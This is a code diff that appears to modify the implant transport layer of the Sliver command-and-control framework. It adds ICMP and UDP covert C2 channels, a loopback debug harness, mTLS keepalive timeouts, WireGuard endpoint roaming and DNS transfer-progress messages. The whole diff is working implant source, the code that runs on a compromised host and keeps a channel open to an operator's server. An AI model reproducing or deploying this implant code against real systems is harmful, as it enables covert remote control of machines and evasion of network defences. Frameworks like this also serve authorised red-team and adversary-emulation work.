@@ -24,7 +24,7 @@ import (
 
 	// {{end}}
 
-	// {{if or .Config.MTLSc2Enabled .Config.WGc2Enabled}}
+	// {{if .Config.MTLSc2Enabled}}
 	"strconv"
 	// {{end}}
 
@@ -40,7 +40,6 @@ import (
 	// {{end}}
 
 	// {{if .Config.WGc2Enabled}}
-	"errors"
 
 	"github.com/bishopfox/sliver/implant/sliver/transports/wireguard"
 	"golang.zx2c4.com/wireguard/device"
@@ -51,14 +50,32 @@ import (
 	"github.com/bishopfox/sliver/implant/sliver/transports/httpclient"
 	// {{end}}
 
+	// {{if or .Config.MTLSc2Enabled .Config.DNSc2Enabled}}
+	"sync/atomic"
+	// {{end}}
+
 	// {{if .Config.DNSc2Enabled}}
 	"github.com/bishopfox/sliver/implant/sliver/transports/dnsclient"
 	// {{end}}
 
+	// {{if .Config.ICMPc2Enabled}}
+	"github.com/bishopfox/sliver/implant/sliver/transports/icmpclient"
+	// {{end}}
+
+	// {{if .Config.UDPc2Enabled}}
+	"github.com/bishopfox/sliver/implant/sliver/transports/udpclient"
+	// {{end}}
+
 	// {{if .Config.TCPPivotc2Enabled}}
 	"github.com/bishopfox/sliver/implant/sliver/transports/pivotclients"
-	"google.golang.org/protobuf/proto"
+	// {{end}}
+
+	// {{if .Config.IsHarness}}
+	"github.com/bishopfox/sliver/implant/sliver/harness"
+	// {{end}}
 
+	// {{if or .Config.TCPPivotc2Enabled .Config.DNSc2Enabled}}
+	"google.golang.org/protobuf/proto"
 	// {{end}}
 
 	// {{if not .Config.NamePipec2Enabled}}
@@ -74,6 +91,10 @@ import (
 
 var (
 	_ time.Duration // Force import
+
+	// {{if .Config.IsHarness}}
+	_ io.Reader // Force import, harness builds have no other c2
+	// {{end}}
 )
 
 type Start func() error
@@ -153,6 +174,30 @@ func StartConnectionLoop(abort <-chan struct{}, temporaryC2 ...string) <-chan *C
 				}
 				// {{end}} - DNSc2Enabled
 
+			case "icmp":
+				// *** ICMP ***
+				// {{if .Config.ICMPc2Enabled}}
+				connection, err = icmpConnect(uri)
+				if err != nil {
+					// {{if .Config.Debug}}
+					log.Printf("[icmp] Connection failed %s", err)
+					// {{end}}
+					continue
+				}
+				// {{end}} - ICMPc2Enabled
+
+			case "udp":
+				// *** UDP ***
+				// {{if .Config.UDPc2Enabled}}
+				connection, err = udpConnect(uri)
+				if err != nil {
+					// {{if .Config.Debug}}
+					log.Printf("[udp] Connection failed %s", err)
+					// {{end}}
+					continue
+				}
+				// {{end}} - UDPc2Enabled
+
 			case "namedpipe":
 				// *** Named Pipe ***
 				// {{if .Config.NamePipec2Enabled}}
@@ -176,6 +221,18 @@ func StartConnectionLoop(abort <-chan struct{}, temporaryC2 ...string) <-chan *C
 				}
 				// {{end}} -TCPPivotc2Enabled
 
+			case "loopback":
+				// *** Loopback (debug harness) ***
+				// {{if .Config.IsHarness}}
+				connection, err = loopbackConnect(uri)
+				if err != nil {
+					// {{if .Config.Debug}}
+					log.Printf("[loopback] Connection failed %s", err)
+					// {{end}}
+					continue
+				}
+				// {{end}} - IsHarness
+
 			default:
 				// {{if .Config.Debug}}
 				log.Printf("Unknown c2 protocol %s", uri.Scheme)
@@ -239,7 +296,8 @@ func mtlsConnect(uri *url.URL) (*Connection, error) {
 			// {{end}}
 			lport = 8888
 		}
-		conn, err = mtls.MtlsConnect(uri.Hostname(), uint16(lport))
+		opts := mtls.ParseMTLSOptions(uri)
+		conn, err = mtls.MtlsConnect(uri.Hostname(), uint16(lport), opts.KeepAlive)
 		if err != nil {
 			return err
 		}
@@ -257,8 +315,8 @@ func mtlsConnect(uri *url.URL) (*Connection, error) {
 					if err != nil {
 						return
 					}
-				case <-time.After(mtls.PingInterval):
-					mtls.WritePing(conn)
+				case <-time.After(opts.PingInterval):
+					err := mtls.WritePing(conn)
 					if err != nil {
 						return
 					}
@@ -268,7 +326,13 @@ func mtlsConnect(uri *url.URL) (*Connection, error) {
 
 		go func() {
 			defer connection.Cleanup()
+			// Older servers don't reply to pings, so a silent connection is only
+			// considered dead once the server has replied to a ping
+			replies := int32(0)
 			for {
+				if 0 < opts.PingTimeout && atomic.LoadInt32(&replies) == 1 {
+					conn.SetReadDeadline(time.Now().Add(opts.PingInterval + opts.PingTimeout))
+				}
 				envelope, err := mtls.ReadEnvelope(conn)
 				if err == io.EOF {
 					// {{if .Config.Debug}}
@@ -277,8 +341,15 @@ func mtlsConnect(uri *url.URL) (*Connection, error) {
 					return
 				}
 				if err != io.EOF && err != nil {
+					// {{if .Config.Debug}}
+					log.Printf("[mtls] read error: %s", err)
+					// {{end}}
 					break
 				}
+				if envelope != nil && mtls.IsKeepaliveReply(envelope) {
+					atomic.StoreInt32(&replies, 1)
+					continue
+				}
 				if envelope != nil {
 					recv <- envelope
 				}
@@ -302,6 +373,7 @@ func wgConnect(uri *url.URL) (*Connection, error) {
 
 	var conn net.Conn
 	var dev *device.Device
+	roamDone := make(chan struct{})
 	connection := &Connection{
 		Send:    send,
 		Recv:    recv,
@@ -315,6 +387,7 @@ func wgConnect(uri *url.URL) (*Connection, error) {
 			// {{if .Config.Debug}}
 			log.Printf("[wg] lost connection, cleanup...")
 			// {{end}}
+			close(roamDone)
 			conn.Close()
 			dev.Down()
 			close(recv)
@@ -333,28 +406,15 @@ func wgConnect(uri *url.URL) (*Connection, error) {
 		// {{if .Config.Debug}}
 		log.Printf("Connecting -> %s", uri.Host)
 		// {{end}}
-		lport, err := strconv.Atoi(uri.Port())
-		if err != nil {
-			// {{if .Config.Debug}}
-			log.Printf("Error parsing wg listen port %s (default to 53)", err)
-			// {{end}}
-			lport = 53
-		}
-		// Attempt to resolve the hostname in case
-		// we received a domain name and not an IP address.
-		// net.LookupHost() will still work with an IP address
-		addrs, err := net.LookupHost(uri.Hostname())
+		endpoints, err := wireguard.Endpoints(uri)
 		if err != nil {
 			return err
 		}
-		if len(addrs) == 0 {
-			return errors.New("{{if .Config.Debug}}Invalid address{{end}}")
-		}
-		hostname := addrs[0]
-		conn, dev, err = wireguard.WGConnect(hostname, uint16(lport))
+		conn, dev, endpoints, err = wireguard.WGConnect(endpoints)
 		if err != nil {
 			return err
 		}
+		go wireguard.Roam(dev, endpoints, roamDone)
 		connection.IsOpen = true
 
 		go func() {
@@ -569,6 +629,25 @@ func dnsConnect(uri *url.URL) (*Connection, error) {
 		// {{if .Config.Debug}}
 		log.Printf("Starting new session with id = %v\n", client)
 		// {{end}}
+		connection.dnsDiagnostics = client.Diagnostics()
+
+		// Progress reports are best effort, one is dropped if the last is still in flight
+		reporting := int32(0)
+		client.OnProgress(func(envelopeID int64, toImplant bool, transferred uint32, total uint32) {
+			if !atomic.CompareAndSwapInt32(&reporting, 0, 1) {
+				return
+			}
+			go func() {
+				defer atomic.StoreInt32(&reporting, 0)
+				data, _ := proto.Marshal(&pb.TransferProgress{
+					EnvelopeID:  envelopeID,
+					ToImplant:   toImplant,
+					Transferred: transferred,
+					Total:       total,
+				})
+				client.WriteEnvelope(&pb.Envelope{Type: pb.MsgTransferProgress, Data: data})
+			}()
+		})
 
 		go func() {
 			defer connection.Cleanup()
@@ -633,6 +712,204 @@ func dnsConnect(uri *url.URL) (*Connection, error) {
 
 // {{end}} - .DNSc2Enabled
 
+// {{if .Config.ICMPc2Enabled}}
+func icmpConnect(uri *url.URL) (*Connection, error) {
+	send := make(chan *pb.Envelope)
+	recv := make(chan *pb.Envelope)
+	ctrl := make(chan struct{}, 1)
+	connection := &Connection{
+		Send:    send,
+		Recv:    recv,
+		ctrl:    ctrl,
+		tunnels: map[uint64]*Tunnel{},
+		mutex:   &sync.RWMutex{},
+		once:    &sync.Once{},
+		IsOpen:  true,
+		cleanup: func() {
+			// {{if .Config.Debug}}
+			log.Printf("[icmp] lost connection, cleanup...")
+			// {{end}}
+			ctrl <- struct{}{} // Stop polling
+			close(recv)
+		},
+	}
+
+	var client *icmpclient.SliverICMPClient
+	connection.Stop = func() error {
+		// {{if .Config.Debug}}
+		log.Printf("[icmp] Stop()")
+		// {{end}}
+		connection.Cleanup()
+		if client != nil {
+			client.CloseSession()
+		}
+		return nil
+	}
+
+	connection.Start = func() error {
+		// {{if .Config.Debug}}
+		log.Printf("Attempting to connect via ICMP to: %s\n", uri.Hostname())
+		// {{end}}
+		opts := icmpclient.ParseICMPOptions(uri)
+		var err error
+		client, err = icmpclient.ICMPStartSession(uri.Hostname(), opts)
+		if err != nil {
+			return err
+		}
+
+		go func() {
+			defer connection.Cleanup()
+			for envelope := range send {
+				client.WriteEnvelope(envelope)
+			}
+		}()
+
+		go func() {
+			errCount := 0 // Number of sequential errors
+			defer connection.Cleanup()
+			for {
+				select {
+				case <-ctrl:
+					return
+				default:
+					envelope, err := client.ReadEnvelope()
+					switch err {
+					case nil:
+						errCount = 0
+						if envelope != nil {
+							recv <- envelope
+						}
+					case icmpclient.ErrClosed:
+						// {{if .Config.Debug}}
+						log.Printf("[icmp] session is closed")
+						// {{end}}
+						return
+					case io.EOF:
+						// {{if .Config.Debug}}
+						log.Printf("[icmp] eof")
+						// {{end}}
+						return
+					default:
+						errCount++
+						// {{if .Config.Debug}}
+						log.Printf("[icmp] error: %s", err)
+						// {{end}}
+						if errCount < opts.MaxErrors {
+							continue
+						}
+						return
+					}
+				}
+			}
+		}()
+
+		return nil
+	}
+
+	return connection, nil
+}
+
+// {{end}} - .ICMPc2Enabled
+
+// {{if .Config.UDPc2Enabled}}
+func udpConnect(uri *url.URL) (*Connection, error) {
+	send := make(chan *pb.Envelope)
+	recv := make(chan *pb.Envelope)
+	ctrl := make(chan struct{}, 1)
+	connection := &Connection{
+		Send:    send,
+		Recv:    recv,
+		ctrl:    ctrl,
+		tunnels: map[uint64]*Tunnel{},
+		mutex:   &sync.RWMutex{},
+		once:    &sync.Once{},
+		IsOpen:  true,
+		cleanup: func() {
+			// {{if .Config.Debug}}
+			log.Printf("[udp] lost connection, cleanup...")
+			// {{end}}
+			ctrl <- struct{}{} // Stop polling
+			close(recv)
+		},
+	}
+
+	var client *udpclient.SliverUDPClient
+	connection.Stop = func() error {
+		// {{if .Config.Debug}}
+		log.Printf("[udp] Stop()")
+		// {{end}}
+		connection.Cleanup()
+		if client != nil {
+			client.CloseSession()
+		}
+		return nil
+	}
+
+	connection.Start = func() error {
+		// {{if .Config.Debug}}
+		log.Printf("Attempting to connect via UDP to: %s\n", uri.Host)
+		// {{end}}
+		opts := udpclient.ParseUDPOptions(uri)
+		var err error
+		client, err = udpclient.UDPStartSession(uri.Host, opts)
+		if err != nil {
+			return err
+		}
+
+		go func() {
+			defer connection.Cleanup()
+			for envelope := range send {
+				client.WriteEnvelope(envelope)
+			}
+		}()
+
+		go func() {
+			errCount := 0 // Number of sequential errors
+			defer connection.Cleanup()
+			for {
+				select {
+				case <-ctrl:
+					return
+				default:
+					envelope, err := client.ReadEnvelope()
+					switch err {
+					case nil:
+						errCount = 0
+						if envelope != nil {
+							recv <- envelope
+						}
+					case udpclient.ErrClosed:
+						// {{if .Config.Debug}}
+						log.Printf("[udp] session is closed")
+						// {{end}}
+						return
+					case io.EOF:
+						// {{if .Config.Debug}}
+						log.Printf("[udp] eof")
+						// {{end}}
+						return
+					default:
+						errCount++
+						// {{if .Config.Debug}}
+						log.Printf("[udp] error: %s", err)
+						// {{end}}
+						if errCount < opts.MaxErrors {
+							continue
+						}
+						return
+					}
+				}
+			}
+		}()
+
+		return nil
+	}
+
+	return connection, nil
+}
+
+// {{end}} - .UDPc2Enabled
+
 // {{if .Config.TCPPivotc2Enabled}}
 func tcpPivotConnect(uri *url.URL) (*Connection, error) {
 
@@ -765,3 +1042,51 @@ func tcpPivotConnect(uri *url.URL) (*Connection, error) {
 }
 
 // {{end}} -TCPPivotc2Enabled
+
+// {{if .Config.IsHarness}}
+// loopbackConnect - The other end of the connection is the harness console in this
+// process, there's no server
+func loopbackConnect(uri *url.URL) (*Connection, error) {
+	send := make(chan *pb.Envelope)
+	recv := make(chan *pb.Envelope)
+	ctrl := make(chan struct{})
+	done := make(chan struct{})
+
+	connection := &Connection{
+		Send:    send,
+		Recv:    recv,
+		ctrl:    ctrl,
+		tunnels: map[uint64]*Tunnel{},
+		mutex:   &sync.RWMutex{},
+		once:    &sync.Once{},
+		IsOpen:  false,
+		uri:     uri,
+
+		// Do not call directly, use exported Cleanup() instead
+		cleanup: func() {
+			// {{if .Config.Debug}}
+			log.Printf("[loopback] cleanup...")
+			// {{end}}
+			close(done)
+		},
+	}
+
+	connection.Stop = func() error {
+		connection.Cleanup()
+		return nil
+	}
+
+	connection.Start = func() error {
+		connection.IsOpen = true
+		go func() {
+			harness.Serve(send, recv, done)
+			connection.Cleanup()
+			close(recv)
+		}()
+		return nil
+	}
+
+	return connection, nil
+}
+
+// {{end}} - IsHarness